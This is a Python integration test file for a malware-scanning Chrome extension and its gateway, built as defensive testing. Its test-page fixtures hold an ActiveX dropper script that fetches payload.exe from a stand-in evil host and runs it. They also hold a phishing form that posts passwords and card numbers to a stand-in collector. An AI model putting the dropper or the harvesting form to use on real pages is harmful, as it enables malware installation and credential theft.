"""The Chrome extension in real headless Chromium against a real gateway (issue 7).

Debian's ``/usr/bin/chromium`` loads the unpacked ``extension/`` through Playwright; the gateway is
a ``malwaresnipper serve`` subprocess on free ports with a temporary home and a known token.

Test pages are served by a small threaded HTTP server on 127.0.0.1. The extension must never send
loopback pages, so Chromium maps ``*.test`` names to that server (``--host-resolver-rules``):
``http://benign.test:PORT/`` is an ordinary public-looking URL to the extension, while
``http://127.0.0.1:PORT/`` is a loopback URL it must skip. Private-address pages
(``http://10.11.12.13:PORT/``) reach the same server through it acting as an HTTP proxy
(Chromium sends every non-loopback, non-``.test`` request to ``--proxy-server``).

The tests run in file order and share one gateway and one browser (each test configures what it
needs, so any single test can also run alone).
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets
import shutil
import signal
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from helpers.ports import free_port

REPO = Path(__file__).resolve().parents[2]
EXTENSION = REPO / "extension"
CHROMIUM = Path("/usr/bin/chromium")
PRIVATE_IP = "10.11.12.13"
SCREENS = Path("/work/notes/screens") if Path("/work/notes/screens").is_dir() else Path(__file__).with_name("artifacts")
#: The extension's own contexts (Chromium 150 hides a tab's URL from chrome.tabs without the "tabs"
#: permission, even the extension's own page; runtime.getContexts still names it).
OPTIONS_TAB_OPEN = ("async () => (await chrome.runtime.getContexts({contextTypes: ['TAB']}))"
                    ".some((c) => (c.documentUrl || '').endsWith('/options.html'))")

pytestmark = [
    pytest.mark.integration,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian's chromium is not installed at /usr/bin/chromium"),
]
playwright_sync = pytest.importorskip("playwright.sync_api", reason="the playwright Python package is not installed")
expect = playwright_sync.expect



def wait_until(check: Callable[[], Any], timeout: float, what: str, interval: float = 0.2) -> Any:
    """Poll ``check`` until it returns something truthy; fail with ``what`` after ``timeout``."""
    deadline = time.monotonic() + timeout
    last: Any = None
    while time.monotonic() < deadline:
        last = check()
        if last:
            return last
        time.sleep(interval)
    raise AssertionError(f"timed out after {timeout:.0f} s waiting for {what} (last: {last!r})")


# ------------------------------------------------------------------------------------ test pages

APP_JS = "// same-origin script\nwindow.benignCounter = (window.benignCounter || 0) + 1;\n"
CORS_JS = "// cross-origin script whose server allows CORS\nwindow.corsLoaded = true;\n"
NOCORS_JS = "// cross-origin script without CORS: the extension must not read it\nwindow.nocorsLoaded = true;\n"
BENIGN_INLINE = 'document.documentElement.dataset.greeting = "hello from the benign page";'
EVIL_INLINE = (
    'if (typeof ActiveXObject !== "undefined") {\n'
    '  var shell = new ActiveXObject("WScript.Shell");\n'
    '  var http = new ActiveXObject("MSXML2.XMLHTTP");\n'
    '  http.open("GET", "http://evil.test/payload.exe", false); http.send();\n'
    '  var stream = new ActiveXObject("ADODB.Stream");\n'
    '  stream.Open(); stream.Type = 1; stream.Write(http.ResponseBody);\n'
    '  stream.SaveToFile("C:\\\\Users\\\\Public\\\\update.exe", 2);\n'
    '  shell.Run("C:\\\\Users\\\\Public\\\\update.exe", 0, false);\n'
    "}"
)


def benign_page(port: int, path: str) -> str:
    return f"""<!doctype html><html><head><title>Benign test page {path}</title>
<script>{BENIGN_INLINE}</script>
<script src="/static/app.js"></script>
<script src="http://cors.test:{port}/lib.js"></script>
<script src="http://nocors.test:{port}/lib.js"></script>
</head><body><h1>Recipes</h1><p>Nothing to see here.</p>
<form action="/search" method="get"><input name="q"><button>Search</button></form>
<a href="/about">About</a> <a href="https://example.org/">Example</a> <a href="https://example.net/x">Another</a>
</body></html>"""


def evil_page(path: str) -> str:
    return f"""<!doctype html><html><head><title>Evil dropper page {path}</title>
<script>{EVIL_INLINE}</script></head>
<body><h1>Your account is locked</h1>
<form action="http://collector.example/steal" method="post"><input name="user"><input type="password" name="pw">
<input name="cardnumber" autocomplete="cc-number"><button>Unlock</button></form>
<iframe src="http://tracker.example/x" width="0" height="0" style="border:0"></iframe>
</body></html>"""


# jQuery-style library code: globalEval (an eval sink) and Sizzle's CSS unescape (fromCharCode).
# The engine reports it as javascript.eval_decoded, a low trait, on a BENIGN page.
JQUERY_INLINE = r"""/*! jQuery-style helpers: globalEval and Sizzle's CSS unescape */
(function (window) {
  var jQuery = window.jQuery = window.jQuery || {};
  jQuery.globalEval = function (data) {
    if (data && /\S/.test(data)) {
      (window.execScript || function (d) { window.eval(d); })(data);
    }
  };
  var runescape = /\\([\da-f]{1,6}[\x20\t\r\n\f]?|([\x20\t\r\n\f])|.)/gi;
  jQuery.unescapeSelector = function (selector) {
    return selector.replace(runescape, function (_, escaped, escapedWhitespace) {
      var high = "0x" + escaped - 0x10000;
      return high !== high || escapedWhitespace ? escaped :
        high < 0 ? String.fromCharCode(high + 0x10000) :
        String.fromCharCode(high >> 10 | 0xD800, high & 0x3FF | 0xDC00);
    });
  };
})(window);
"""
JQUERY_PAGE = ("<!doctype html><html><head><title>Garden shop</title></head><body><h1>Rakes</h1>"
               "<p>Good rakes for sale.</p><a href='/a'>a</a><a href='/b'>b</a><script>" + JQUERY_INLINE
               + "</script></body></html>")


# A page whose title and text hold unpaired surrogates (a DOM string may; UTF-8 JSON may not).
SURROGATE_PAGE = """<!doctype html><html><head><title>Surrogates</title>
<script>document.title = "Sign in \\uD800 now";</script></head>
<body><p id="p">Account</p><script>document.getElementById("p").append("\\uDC00 locked");</script></body></html>"""


def plain_page(title: str) -> str:
    return f"<!doctype html><html><head><title>{title}</title><script>var x = 1;</script></head><body><p>{title}</p></body></html>"


class SiteHandler(BaseHTTPRequestHandler):
    """Pages chosen by host name; absolute-URI requests (proxy mode) are served the same way."""

    def log_message(self, format: str, *args: Any) -> None:  # quiet
        pass

    def do_GET(self) -> None:
        if self.path.startswith("http://"):
            parts = urlsplit(self.path)
            host, path = parts.hostname or "", parts.path + (f"?{parts.query}" if parts.query else "")
        else:
            host, path = (self.headers.get("Host") or "").rsplit(":", 1)[0], self.path
        port = int(self.server.server_address[1])  # type: ignore[index]  # an AF_INET server: (host, port)
        headers = {"Content-Type": "text/html; charset=utf-8", "Cache-Control": "max-age=60"}
        if path.startswith("/static/app.js"):
            body, headers["Content-Type"] = APP_JS, "text/javascript"
        elif path.startswith("/lib.js") and host == "cors.test":
            body, headers["Content-Type"] = CORS_JS, "text/javascript"
            headers["Access-Control-Allow-Origin"] = "*"
        elif path.startswith("/lib.js"):
            body, headers["Content-Type"] = NOCORS_JS, "text/javascript"
        elif host.endswith("evil.test"):
            body = evil_page(path)
        elif host == "benign.test":
            body = benign_page(port, path)
        elif host == "jquery.test":
            body = JQUERY_PAGE
        elif host == "surrogate.test":
            body = SURROGATE_PAGE
        elif host == "big.test":
            body = plain_page(f"Big page {path}").replace("</body>", "<p>" + "All about recipes. " * 3000 + "</p></body>")
        else:
            body = plain_page(f"{host} page {path}")
        data = body.encode()
        self.send_response(200)
        for key, value in headers.items():
            self.send_header(key, value)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


@pytest.fixture(scope="module")
def site() -> Iterator[int]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), SiteHandler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


# ---------------------------------------------------------------------------------------- gateway


class Gateway:
    """One ``malwaresnipper serve`` process; ``start()`` after ``stop()`` keeps ports, home and token."""

    def __init__(self, home: Path, extra_config: str = "") -> None:
        self.home = home
        self.token = secrets.token_urlsafe(24)
        self.api_port = free_port()
        self.events_port = free_port()
        self.config = home / "malwaresnipper.toml"
        # Every visit must reach history, so the same page twice is not deduplicated; a generous
        # scan budget keeps verdicts coming on a busy 2-core test machine.
        self.config.write_text("[proxy]\ndedupe_window_s = 0\nscan_timeout_ms = 20000\n" + extra_config)
        self.proc: subprocess.Popen[bytes] | None = None

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.api_port}"

    def start(self, timeout: float = 40.0) -> None:
        env = dict(os.environ, MALWARESNIPPER_HOME=str(self.home), MALWARESNIPPER_TOKEN=self.token, PYTHONUNBUFFERED="1")
        with (self.home / "gateway.log").open("ab") as log:
            self.proc = subprocess.Popen(
                [sys.executable, "-m", "malwaresnipper.cli.main", "serve", "--config", str(self.config),
                 "--api-port", str(self.api_port), "--events-port", str(self.events_port)],
                cwd=self.home, env=env, stdout=log, stderr=subprocess.STDOUT,
            )
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if self.proc.poll() is not None:
                raise RuntimeError(f"gateway exited with {self.proc.returncode}: {self.log_tail()}")
            try:
                if self.api("GET", "/api/v1/health", auth=False)[0] == 200:
                    return
            except OSError:
                pass
            time.sleep(0.2)
        raise RuntimeError(f"gateway did not answer within {timeout} s: {self.log_tail()}")

    def stop(self) -> None:
        if self.proc and self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(15)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(5)
        self.proc = None

    def log_tail(self) -> str:
        path = self.home / "gateway.log"
        return path.read_text(errors="replace")[-3000:] if path.exists() else ""

    def api(self, method: str, path: str, body: Any = None, *, auth: bool = True) -> tuple[int, Any]:
        headers = {"Accept": "application/json"}
        if auth:
            headers["Authorization"] = f"Bearer {self.token}"
        data = None
        if body is not None:
            data = json.dumps(body).encode()
            headers["Content-Type"] = "application/json"
        request = urllib.request.Request(self.url + path, data=data, method=method, headers=headers)
        try:
            with urllib.request.urlopen(request, timeout=10) as response:
                return response.status, json.loads(response.read() or b"null")
        except urllib.error.HTTPError as exc:
            return exc.code, json.loads(exc.read() or b"null")

    def scans_for(self, url: str) -> list[dict[str, Any]]:
        """History summaries whose URL is exactly ``url``."""
        status, data = self.api("GET", "/api/v1/scans?limit=500")
        assert status == 200, data
        return [item for item in data["items"] if item["url"] == url]

    def scan(self, scan_id: str) -> dict[str, Any]:
        status, data = self.api("GET", f"/api/v1/scans/{scan_id}")
        assert status == 200, data
        return data


@pytest.fixture(scope="module")
def gateway() -> Iterator[Gateway]:
    home = Path(tempfile.mkdtemp(prefix="ms-ext-gw-"))
    gw = Gateway(home)
    gw.start()
    # Make sure the engine certainly calls the malicious pages MALICIOUS: a blocklist hit is CRITICAL.
    status, data = gw.api("POST", "/api/v1/lists/block", {"entry": "evil.test", "kind": "domain", "note": "extension tests"})
    assert status in (200, 201), data
    yield gw
    gw.stop()
    shutil.rmtree(home, ignore_errors=True)


# ---------------------------------------------------------------------------------------- browser


def chromium_args(site_port: int, *, extension: bool) -> list[str]:
    args = [
        "--no-sandbox",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--no-first-run",
        "--host-resolver-rules=MAP *.test 127.0.0.1",
        f"--proxy-server=http://127.0.0.1:{site_port}",
        "--proxy-bypass-list=*.test",
    ]
    if extension:
        args += [f"--disable-extensions-except={EXTENSION}", f"--load-extension={EXTENSION}"]
    return args


class Browser:
    """Chromium with the unpacked extension, plus helpers that read the extension's own state."""

    def __init__(self, playwright: Any, context: Any, worker: Any, site_port: int) -> None:
        self.playwright = playwright
        self.context = context
        self.worker = worker
        self.site_port = site_port
        self.extension_id = urlsplit(worker.url).hostname
        self.origin = f"chrome-extension://{self.extension_id}"

    def url(self, host: str, path: str = "/") -> str:
        return f"http://{host}:{self.site_port}{path}"

    def configure(self, gateway: Gateway, **extra: Any) -> None:
        """Set the gateway URL and token through the options page, as a user does."""
        page = self.context.new_page()
        page.goto(f"{self.origin}/options.html")
        page.fill("#gateway-url", gateway.url)
        page.fill("#token", gateway.token)
        page.fill("#paused-sites", "\n".join(extra.get("paused", [])))
        page.set_checked("#enabled", True)
        page.click("#save")
        expect(page.locator("#save-result")).to_have_text("Saved.")
        page.close()
        wait_until(lambda: self.session().get("conn", {}).get("status") == "online", 20, "the worker to connect to the gateway")

    def session(self) -> dict[str, Any]:
        return self.worker.evaluate("() => chrome.storage.session.get(null)")

    def tab_state(self, url: str) -> dict[str, Any] | None:
        states = [v for k, v in self.session().items() if k.startswith("tab:") and v.get("url") == url]
        return max(states, key=lambda s: s["updated"]) if states else None

    def badge(self, tab_id: int) -> str:
        return self.worker.evaluate("(tabId) => chrome.action.getBadgeText({tabId})", tab_id)

    def wait_verdict(self, url: str, timeout: float = 30) -> dict[str, Any]:
        return wait_until(
            lambda: (s := self.tab_state(url)) and s["status"] in ("benign", "suspicious", "malicious", "error") and s,
            timeout, f"a verdict for {url} in the worker's state",
        )


@pytest.fixture(scope="module")
def browser(site: int) -> Iterator[Browser]:
    from playwright.sync_api import sync_playwright

    profile = tempfile.mkdtemp(prefix="ms-ext-profile-")
    with sync_playwright() as p:
        context = p.chromium.launch_persistent_context(
            profile, executable_path=str(CHROMIUM), headless=True, args=chromium_args(site, extension=True),
        )
        worker = context.service_workers[0] if context.service_workers else context.wait_for_event("serviceworker", timeout=15000)
        # On install the extension opens its options page so the user can paste the token.
        wait_until(lambda: worker.evaluate(OPTIONS_TAB_OPEN), 15, "the options page on install")
        yield Browser(p, context, worker, site)
        context.close()
    shutil.rmtree(profile, ignore_errors=True)


# ---------------------------------------------------------------------------- overlay (closed DOM)


class Overlay:
    """The warning overlay lives in a closed shadow root: found through CDP's pierce, clicked with
    real mouse events (the overlay ignores untrusted clicks)."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.cdp = page.context.new_cdp_session(page)

    def nodes(self) -> dict[str, dict[str, Any]]:
        doc = self.cdp.send("DOM.getDocument", {"depth": -1, "pierce": True})
        found: dict[str, dict[str, Any]] = {}

        def text_of(node: dict[str, Any]) -> str:
            if node.get("nodeType") == 3:
                return node.get("nodeValue", "")
            return "".join(text_of(c) for c in node.get("children", []))

        def walk(node: dict[str, Any]) -> None:
            attrs = node.get("attributes", [])
            pairs = dict(zip(attrs[::2], attrs[1::2], strict=False))
            if "data-ms" in pairs:
                found[pairs["data-ms"]] = {"nodeId": node["nodeId"], "text": text_of(node)}
            for child in node.get("children", []) + node.get("shadowRoots", []):
                walk(child)

        walk(doc["root"])
        return found

    def click(self, name: str) -> None:
        node = self.nodes()[name]
        quad = self.cdp.send("DOM.getBoxModel", {"nodeId": node["nodeId"]})["model"]["content"]
        x, y = sum(quad[0::2]) / 4, sum(quad[1::2]) / 4
        self.page.mouse.click(x, y)


def location_of(page: Any) -> str:
    """The page's own location ('' while it is navigating)."""
    try:
        return str(page.evaluate("location.href"))
    except playwright_sync.Error:
        return ""


def wait_overlay(page: Any, browser: Browser | None = None, timeout: float = 30) -> dict[str, dict[str, Any]]:
    overlay = Overlay(page)
    try:
        return wait_until(lambda: (n := overlay.nodes()) and "leave" in n and n, timeout, "the warning overlay")
    except AssertionError as exc:
        state = browser.tab_state(location_of(page)) if browser else None
        raise AssertionError(f"{exc}; the worker's state for the tab: {state}") from None


# ------------------------------------------------------------------------------------------ tests


def test_options_page_tests_the_connection(gateway: Gateway, browser: Browser) -> None:
    page = browser.context.new_page()
    page.goto(f"{browser.origin}/options.html")
    page.fill("#gateway-url", gateway.url)
    page.fill("#token", "wrong-token")
    page.click("#test")
    expect(page.locator("#test-result")).to_have_attribute("data-ok", "false", timeout=15000)
    assert "rejected the token" in page.text_content("#test-result")
    page.fill("#token", gateway.token)
    page.click("#test")
    expect(page.locator("#test-result")).to_have_attribute("data-ok", "true", timeout=15000)
    assert "Connected to MalwareSnipper" in page.text_content("#test-result")
    page.fill("#gateway-url", f"http://127.0.0.1:{free_port()}")
    page.click("#test")
    expect(page.locator("#test-result")).to_have_attribute("data-ok", "false", timeout=15000)
    assert "Cannot reach" in page.text_content("#test-result")
    # Saved with a wrong token, the worker's event stream is refused and the popup says so.
    page.fill("#gateway-url", gateway.url)
    page.fill("#token", "wrong-token")
    page.click("#save")
    expect(page.locator("#save-result")).to_have_text("Saved.")
    popup = browser.context.new_page()
    popup.goto(f"{browser.origin}/popup.html")
    expect(popup.locator("#status")).to_have_attribute("data-status", "unauthorized", timeout=15000)
    assert "token" in popup.text_content("#status-detail")
    popup.close()
    page.close()


def test_benign_and_malicious_pages_are_captured_and_shown(gateway: Gateway, browser: Browser) -> None:
    browser.configure(gateway)
    popup = browser.context.new_page()

    benign_url = browser.url("benign.test", "/recipes")
    page = browser.context.new_page()
    page.goto(benign_url)
    state = browser.wait_verdict(benign_url)
    assert state["status"] == "benign", state
    assert browser.badge(state["tabId"]) == "OK"

    # What reached the gateway is what the page holds.
    [summary] = wait_until(lambda: gateway.scans_for(benign_url), 10, "the benign capture in history")
    assert summary["method"] == "EXTENSION"
    assert summary["title"] == "Benign test page /recipes"
    record = gateway.scan(summary["scan_id"])
    scripts = record["verdict"]["scripts"]
    by_url = {s["url"]: s for s in scripts if s["url"]}
    sha = lambda text: hashlib.sha256(text.encode()).hexdigest()  # noqa: E731
    assert by_url[browser.url("benign.test", "/static/app.js")]["sha256"] == sha(APP_JS)
    assert by_url[browser.url("cors.test", "/lib.js")]["sha256"] == sha(CORS_JS)
    assert browser.url("nocors.test", "/lib.js") not in by_url, "a script without CORS must not be read"
    assert sha(BENIGN_INLINE) in {s["sha256"] for s in scripts if s["inline"]}
    dom = record["verdict"]["layers"]["dom"]["details"]
    assert (dom["forms"], dom["password_forms"], dom["iframes"], dom["links"], dom["external_links"]) == (1, 0, 0, 3, 2)

    # The popup, opened for that tab, then follows the malicious page live (no reload).
    popup.goto(f"{browser.origin}/popup.html?tab={state['tabId']}")
    expect(popup.locator("#status")).to_have_attribute("data-status", "online", timeout=15000)
    assert popup.text_content("#tab-verdict").startswith("No threat found")

    evil_url = browser.url("evil.test", "/login")
    page.goto(evil_url)
    state = browser.wait_verdict(evil_url)
    assert state["status"] == "malicious", state
    assert browser.badge(state["tabId"]) == "X"
    assert state["indicators"], "the popup needs the top indicators"
    [summary] = wait_until(lambda: gateway.scans_for(evil_url), 10, "the malicious capture in history")
    record = gateway.scan(summary["scan_id"])
    assert record["verdict"]["threat_level"] == "MALICIOUS"
    assert sha(EVIL_INLINE) in {s["sha256"] for s in record["verdict"]["scripts"] if s["inline"]}
    dom = record["verdict"]["layers"]["dom"]["details"]
    assert (dom["forms"], dom["password_forms"], dom["iframes"]) == (1, 1, 1)

    expect(popup.locator("#tab-verdict")).to_have_attribute("data-level", "malicious", timeout=15000)
    assert popup.text_content("#tab-verdict").startswith("Malicious")
    indicators = popup.locator("#tab-indicators li").all_text_contents()
    assert indicators and indicators[0] == state["indicators"][0]["title"]
    expect(popup.locator("#count-malicious")).not_to_have_text("0", timeout=15000)
    alerts = popup.locator("#alerts li").all_text_contents()
    assert any(evil_url in a and "MALICIOUS" in a for a in alerts), alerts
    notifications = browser.worker.evaluate("() => chrome.notifications.getAll()")
    assert any(key.startswith(f"scan:{state['tabId']}:") for key in notifications), notifications

    overlay = wait_overlay(page, browser)
    assert overlay["host"]["text"] == "evil.test"
    if record["verdict"]["classification"] == "dropper":
        assert overlay["headline"]["text"] == "This page tries to download or run malicious software on your computer."
    else:
        assert overlay["headline"]["text"].startswith("This ")
    assert state["indicators"][0]["title"] in overlay["reasons"]["text"]
    page.close()
    popup.close()


def test_no_threat_found_lists_no_library_trait_as_a_reason(gateway: Gateway, browser: Browser) -> None:
    """jQuery's own globalEval (javascript.eval_decoded, a low trait) is in the record, but the
    popup's "No threat found" lists no reason (engine/data/explain.json's rule, run by the
    extension); the TODAY counts and alerts say whose they are."""
    browser.configure(gateway)
    url = browser.url("jquery.test", "/shop")
    page = browser.context.new_page()
    page.goto(url)
    state = browser.wait_verdict(url)
    assert state["status"] == "benign", state
    [summary] = wait_until(lambda: gateway.scans_for(url), 10, "the jQuery page in history")
    record = gateway.scan(summary["scan_id"])
    ids = [i["id"] for i in record["verdict"]["indicators"]]
    assert "javascript.eval_decoded" in ids, ids  # the gateway saw the trait ...
    assert state["indicators"] == []  # ... and the extension keeps it from the user
    popup = browser.context.new_page()
    popup.set_viewport_size({"width": 420, "height": 640})
    popup.goto(f"{browser.origin}/popup.html?tab={state['tabId']}")
    expect(popup.locator("#status")).to_have_attribute("data-status", "online", timeout=15000)
    expect(popup.locator("#tab-verdict")).to_have_attribute("data-level", "benign", timeout=15000)
    assert popup.text_content("#tab-verdict").startswith("No threat found")
    assert popup.locator("#tab-indicators li").count() == 0
    assert "decodes at run time" not in popup.inner_text("body")
    assert popup.locator("p.scope").all_text_contents() == ["All browsers on this gateway"] * 2
    popup.screenshot(path=str(SCREENS / "popup-no-threat-found.png"), full_page=True)
    popup.close()
    page.close()


def test_a_page_with_unpaired_surrogates_is_still_scanned(gateway: Gateway, browser: Browser) -> None:
    """The gateway refuses JSON with unpaired surrogates (400); a page must not use that to stay
    unscanned: the extension sends its strings well-formed (U+FFFD for each unpaired surrogate)."""
    browser.configure(gateway)
    url = browser.url("surrogate.test", "/login")
    page = browser.context.new_page()
    page.goto(url)
    assert page.evaluate("() => document.title.isWellFormed()") is False  # the page really holds one
    state = browser.wait_verdict(url)
    assert state["status"] == "benign", state
    [summary] = wait_until(lambda: gateway.scans_for(url), 10, "the capture in history")
    assert summary["title"] == "Sign in \ufffd now"
    page.close()


def test_overlay_buttons(gateway: Gateway, browser: Browser) -> None:
    browser.configure(gateway)

    # "Proceed anyway" removes the warning and leaves the user on the page.
    page = browser.context.new_page()
    proceed_url = browser.url("evil.test", "/proceed")
    page.goto(proceed_url)
    wait_overlay(page, browser)
    # The page itself cannot dismiss it: its synthetic click is ignored.
    page.evaluate("() => document.documentElement.lastElementChild.dispatchEvent(new MouseEvent('click', {bubbles: true}))")
    assert "leave" in Overlay(page).nodes()
    Overlay(page).click("proceed")
    wait_until(lambda: "leave" not in Overlay(page).nodes(), 5, "the overlay to go away")
    assert page.url == proceed_url
    assert page.evaluate("document.title") == "Evil dropper page /proceed"

    # "Leave this page" takes the tab away from the dangerous page.
    leave_url = browser.url("leave.evil.test", "/")
    page2 = browser.context.new_page()
    page2.goto(browser.url("benign.test", "/before-leaving"))
    page2.goto(leave_url)
    wait_overlay(page2, browser)
    Overlay(page2).click("leave")
    # (Playwright's page.url misses history navigations started by the extension; ask the page.)
    wait_until(lambda: location_of(page2) not in ("", leave_url), 10, "the tab to leave the page")
    assert location_of(page2) == browser.url("benign.test", "/before-leaving")

    # In a tab with no history to go back to, "leave" opens the extension's "you are safe" page.
    fresh_url = browser.url("fresh.evil.test", "/")
    with browser.context.expect_page() as opened:
        browser.worker.evaluate("(url) => chrome.tabs.create({url})", fresh_url)
    fresh = opened.value
    wait_overlay(fresh, browser)
    Overlay(fresh).click("leave")
    wait_until(lambda: location_of(fresh) == f"{browser.origin}/left.html", 10, "the 'you are safe' page")
    fresh.close()

    # "Always allow this site" puts the host on the gateway's allowlist; later visits are not sent.
    allow_url = browser.url("allow.evil.test", "/")
    page3 = browser.context.new_page()
    page3.goto(allow_url)
    wait_overlay(page3, browser)
    Overlay(page3).click("allow")
    wait_until(lambda: "leave" not in Overlay(page3).nodes(), 10, "the overlay to go away after allowing")
    status, allow = gateway.api("GET", "/api/v1/lists/allow")
    assert status == 200 and "allow.evil.test" in {i["entry"] for i in allow["items"]}
    sent_before = len(gateway.scans_for(allow_url + "again"))
    page3.goto(allow_url + "again")
    state = wait_until(lambda: (s := browser.tab_state(allow_url + "again")) and s["status"] == "skipped" and s, 10, "skip")
    assert state["reason"] == "on the gateway's allowlist"
    assert len(gateway.scans_for(allow_url + "again")) == sent_before == 0
    for p in (page, page2, page3):
        p.close()


def test_loopback_private_paused_and_allowlisted_pages_are_never_sent(gateway: Gateway, browser: Browser) -> None:
    status, _ = gateway.api("POST", "/api/v1/lists/allow", {"entry": "trusted.test", "kind": "domain"})
    assert status in (200, 201)
    browser.configure(gateway, paused=["paused.test"])
    wait_until(lambda: any(e["entry"] == "trusted.test" for e in browser.session().get("allow", [])), 10, "the allowlist")
    skipped = {
        f"http://127.0.0.1:{browser.site_port}/loopback": "local or private address",
        f"http://localhost:{browser.site_port}/loopback": "local or private address",
        f"http://{PRIVATE_IP}:{browser.site_port}/private": "local or private address",
        browser.url("paused.test", "/"): "paused on this site",
        browser.url("www.trusted.test", "/"): "on the gateway's allowlist",
        f"{gateway.url}/": "this is the gateway itself",
    }
    page = browser.context.new_page()
    for url, reason in skipped.items():
        response = page.goto(url)
        assert response is not None and response.ok, url
        state = wait_until(lambda: browser.tab_state(url), 10, f"the worker to see {url}")  # noqa: B023 - called at once
        assert state["status"] == "skipped" and state["reason"] == reason, state
        assert browser.badge(state["tabId"]) == ""
    # A page sent after them arrives; none of them was sent before it.
    sentinel = browser.url("benign.test", "/sentinel")
    page.goto(sentinel)
    browser.wait_verdict(sentinel)
    wait_until(lambda: gateway.scans_for(sentinel), 10, "the sentinel capture")
    status, data = gateway.api("GET", "/api/v1/scans?limit=500")
    sent = {item["url"] for item in data["items"]}
    assert not sent & set(skipped), sent & set(skipped)
    page.close()


def _load_times(page: Any, urls: list[str], pause_s: float) -> list[float]:
    """Navigation start to load event end (ms), as the page itself measures it; ``pause_s`` between
    pages (0 = back to back, where the previous page's after-load capture overlaps the next load)."""
    times = []
    for url in urls:
        page.goto(url, wait_until="load")
        times.append(page.evaluate(
            "() => { const n = performance.getEntriesByType('navigation')[0]; return n.loadEventEnd - n.startTime; }"))
        time.sleep(pause_s)
    return times


def test_gateway_down_pages_load_normally_then_queued_captures_arrive(gateway: Gateway, browser: Browser, site: int) -> None:
    browser.configure(gateway)
    gateway.stop()
    try:
        # With the gateway down, pages load as fast as in the same browser without the extension:
        # two persistent profiles, measured in alternating rounds so machine load hits both alike.
        profile = tempfile.mkdtemp(prefix="ms-ext-bare-")
        bare = browser.playwright.chromium.launch_persistent_context(
            profile, executable_path=str(CHROMIUM), headless=True, args=chromium_args(site, extension=False),
        )
        page_ext, page_bare = browser.context.new_page(), bare.new_page()
        for label, pause_s in (("paced 0.3 s apart", 0.3), ("back to back", 0.0)):
            with_ext: list[float] = []
            without: list[float] = []
            for r in range(4):
                with_ext += _load_times(page_ext, [browser.url("benign.test", f"/t-ext-{pause_s}-{r}-{i}") for i in range(5)], pause_s)
                without += _load_times(page_bare, [browser.url("benign.test", f"/t-bare-{pause_s}-{r}-{i}") for i in range(5)], pause_s)
            med_ext, med_bare = statistics.median(with_ext), statistics.median(without)
            print(f"\npage load (navigation start -> load end), gateway down, {label}, median of {len(with_ext)}: "
                  f"with extension {med_ext:.1f} ms, without {med_bare:.1f} ms")
            assert med_ext <= 2 * med_bare + 250, (label, with_ext, without)  # generous: nothing waits on the gateway
        bare.close()
        page_ext.close()
        shutil.rmtree(profile, ignore_errors=True)

        popup = browser.context.new_page()
        popup.goto(f"{browser.origin}/popup.html")
        expect(popup.locator("#status")).to_have_attribute("data-status", "offline", timeout=20000)
        queued = [browser.url("benign.test", f"/queued-{i}") for i in range(3)]
        page = browser.context.new_page()
        for url in queued:
            page.goto(url)
            wait_until(lambda: (s := browser.tab_state(url)) and s["status"] == "queued", 15,  # noqa: B023 - called at once
                       f"{url} to be queued")
        assert browser.badge(browser.tab_state(queued[-1])["tabId"]) == "…"
        session = wait_until(lambda: (s := browser.session()).get("queueIndex") and s, 10, "the queue")
        index = session["queueIndex"]
        assert {e["url"] for e in index} >= set(queued)
        assert len(index) <= 20, "the offline queue is bounded"
        assert {k for k in session if k.startswith("q:")} == {f"q:{e['id']}" for e in index}
        assert all(session[f"q:{e['id']}"]["capture"]["url"] == e["url"] for e in index)
        expect(popup.locator("#status-detail")).to_contain_text("waiting", timeout=15000)
    finally:
        gateway.start()
    # When the gateway comes back the worker reconnects by itself and sends the queue.
    for url in queued:
        wait_until(lambda: gateway.scans_for(url), 60, f"the queued capture of {url} to arrive")  # noqa: B023 - called at once
    wait_until(lambda: browser.session().get("queueLength", 0) == 0, 10, "the queue to empty")
    assert not [k for k in browser.session() if k.startswith("q:")]
    state = browser.wait_verdict(queued[-1])
    assert state["status"] == "benign"
    expect(popup.locator("#status")).to_have_attribute("data-status", "online", timeout=30000)
    page.close()
    popup.close()


def test_a_stopped_worker_wakes_reconnects_and_keeps_capturing(gateway: Gateway, browser: Browser) -> None:
    """MV3 stops idle workers; the next page load must wake it, reconnect and still be captured."""
    browser.configure(gateway)
    browser.worker.evaluate("() => { globalThis.beforeStop = true; }")
    internals = browser.context.new_page()
    internals.goto("chrome://serviceworker-internals/")
    internals.get_by_role("button", name="Stop").first.click()
    expect(internals.locator("body")).to_contain_text("Running Status: STOPPED", timeout=10000)
    internals.close()

    url = browser.url("benign.test", "/after-wake")
    page = browser.context.new_page()
    page.goto(url)
    wait_until(lambda: gateway.scans_for(url), 20, "the capture made by the woken worker")
    assert browser.wait_verdict(url)["status"] == "benign"
    wait_until(lambda: browser.worker.evaluate("() => globalThis.malwaresnipper.stream.isOpen"), 20, "the event stream to reopen")
    assert browser.worker.evaluate("() => globalThis.beforeStop === undefined"), "expected a fresh worker instance"
    page.close()


def test_a_capture_too_large_for_the_gateway_is_resent_slimmed(browser: Browser) -> None:
    """A gateway with a small body cap answers 413; the worker resends without the page HTML."""
    home = Path(tempfile.mkdtemp(prefix="ms-ext-gw-small-"))
    small = Gateway(home, extra_config="[server]\nmax_body_bytes = 30000\n")
    small.start()
    try:
        browser.configure(small)
        url = browser.url("big.test", "/")
        page = browser.context.new_page()
        page.goto(url)
        assert len(page.content()) > 30000
        state = browser.wait_verdict(url)
        assert state["status"] == "benign", state
        [summary] = small.scans_for(url)
        assert summary["title"] == "Big page /"
        page.close()
    finally:
        small.stop()
        shutil.rmtree(home, ignore_errors=True)
